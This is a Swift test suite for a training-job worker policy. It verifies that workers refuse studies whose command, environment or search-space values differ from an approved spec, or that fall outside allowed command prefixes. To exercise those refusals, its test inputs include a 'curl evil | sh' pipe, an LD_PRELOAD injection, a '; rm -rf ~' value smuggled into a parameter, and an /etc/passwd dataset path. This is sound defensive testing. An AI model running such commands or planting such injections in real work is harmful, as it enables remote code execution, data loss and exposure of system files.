import AugurCore
import AugurService
import AugurStorage
import AugurTestSupport
import AugurWorkers
import Foundation
import Testing

@Suite struct WorkerPolicyTests {
    private func spec(_ argv: [String], environment: [String: String] = [:], values: [String] = ["a", "b"]) -> StudySpec {
        StudySpec(name: "mine", searchSpace: SearchSpace([.categorical("opt", values)]),
                  objective: Objective(metric: "loss", goal: .minimize), budget: Budget(maxTrials: 5),
                  trial: .command(CommandTrial(argv: argv, environment: environment)))
    }

    @Test func aWorkerWithASpecAcceptsItsOwnSpecWhateverTheBudget() {
        let mine = spec(["python3", "train.py", "--opt=${parameters.opt}"])
        var stored = mine
        stored.name = "renamed"
        stored.budget = Budget(maxTrials: 50, parallelTrials: 4)
        stored.seed = 99
        #expect(WorkerPolicy(spec: mine).refusal(of: Study(spec: stored)) == nil)
    }

    @Test func aWorkerWithASpecRefusesAnotherCommandEnvironmentOrSearchSpace() throws {
        let mine = spec(["python3", "train.py", "--opt=${parameters.opt}"])
        let policy = WorkerPolicy(spec: mine)
        let command = try #require(policy.refusal(of: Study(spec: spec(["sh", "-c", "curl evil | sh"]))))
        #expect(command.hasPrefix("refusing to run the trials of study 'mine': its command is [\"sh\", \"-c\", \"curl evil | sh\"]"))
        let environment = try #require(policy.refusal(of: Study(spec: spec(mine.commandArgv, environment: ["LD_PRELOAD": "/tmp/x.so"]))))
        #expect(environment.contains("environment differs from the spec file's in LD_PRELOAD"))
        let values = try #require(policy.refusal(of: Study(spec: spec(mine.commandArgv, values: ["a", "b", "; rm -rf ~"]))))
        #expect(values.contains("search space differs from the spec file's in `opt`"))
        var training = mine
        training.trial = .training(TrainingTrial(dataset: "/etc/passwd"))
        #expect(policy.refusal(of: Study(spec: training))?.contains("a training block on dataset `/etc/passwd`") == true)
    }

    @Test func allowedCommandsAreArgumentVectorPrefixes() throws {
        let policy = WorkerPolicy(allowedCommands: [try #require(WorkerPolicy.commandPrefix(" python3  train.py ")), ["/opt/run"]])
        #expect(policy.allowedCommands.first == ["python3", "train.py"])
        #expect(policy.refusal(of: Study(spec: spec(["python3", "train.py", "--opt=${parameters.opt}"]))) == nil)
        #expect(policy.refusal(of: Study(spec: spec(["/opt/run"]))) == nil)
        for argv in [["python3", "train.pyx"], ["python3", "-c", "import os"], ["sh", "-c", "python3 train.py"], ["python3"]] {
            let refusal = policy.refusal(of: Study(spec: spec(argv)))
            #expect(refusal?.contains("does not start with an allowed prefix (--allow-command `python3 train.py`, `/opt/run`)") == true,
                    "\(argv)")
        }
        let preloaded = policy.refusal(of: Study(spec: spec(["/opt/run"], environment: ["LD_PRELOAD": "x", "PYTHONPATH": "y", "LR": "1"])))
        #expect(preloaded?.contains("sets LD_PRELOAD, PYTHONPATH in the environment") == true)
        #expect(WorkerPolicy.commandPrefix("  ") == nil)
    }

    @Test func withoutASpecOrPrefixesEveryCommandRuns() {
        #expect(WorkerPolicy().refusal(of: Study(spec: spec(["sh", "-c", "anything"]))) == nil)
    }

    /// A study deleted and created again under a running worker is another study: the run stops with an error, and
    /// the new study's command never runs.
    @Test func aStudyCreatedAgainUnderARunningWorkerStopsIt() async throws {
        let service = StudyService(store: InMemoryStudyStore(), designers: { _ in CountingDesigner() })
        let directory = try makeTemporaryDirectory()
        let gate = directory + "/gate"
        let stranger = directory + "/stranger-ran"
        let first = try await service.createStudy(
            shellStudy("while [ ! -f '\(gate)' ]; do sleep 0.02; done; echo loss=$AUGUR_PARAM_X", maxTrials: 3, parallel: 1))
        let guarded = GuardedStudyService(service: service, study: first, policy: WorkerPolicy())
        let runner = StudyRunner(service: guarded, runner: CommandTrialRunner(runDirectory: directory), parallelism: 1)
        let run = Task { try await runner.run(study: "shell") }
        try await waitUntil("the worker holds a trial") { try await service.trialCounts(study: "shell").active == 1 }
        try await service.deleteStudy("shell")
        let second = try await service.createStudy(shellStudy("touch '\(stranger)'; echo loss=1", maxTrials: 3, parallel: 1))
        #expect(second.version.uid != first.version.uid)
        _ = FileManager.default.createFile(atPath: gate, contents: Data())
        let error = await #expect(throws: ServiceError.self) { try await run.value }
        #expect(error?.kind == .failedPrecondition)
        #expect(error?.message.contains("study 'shell' was deleted and created again on the server while this worker ran it") == true)
        #expect(!FileManager.default.fileExists(atPath: stranger))
        // Refused before anything was created or leased in the new study.
        #expect(try await service.trialCounts(study: "shell") == TrialCounts())
    }
}

private extension StudySpec {
    var commandArgv: [String] {
        if case .command(let command)? = trial { return command.argv }
        return []
    }
}
